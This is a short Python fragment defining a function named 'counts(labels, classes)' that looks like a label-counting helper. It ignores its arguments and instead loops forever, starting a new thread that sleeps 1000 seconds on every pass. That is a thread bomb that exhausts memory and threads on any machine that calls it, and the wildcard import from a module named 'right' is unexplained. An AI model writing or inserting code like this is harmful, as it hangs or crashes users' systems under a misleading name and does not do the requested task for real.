import threading
import time

from right import *


def counts(labels, classes):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
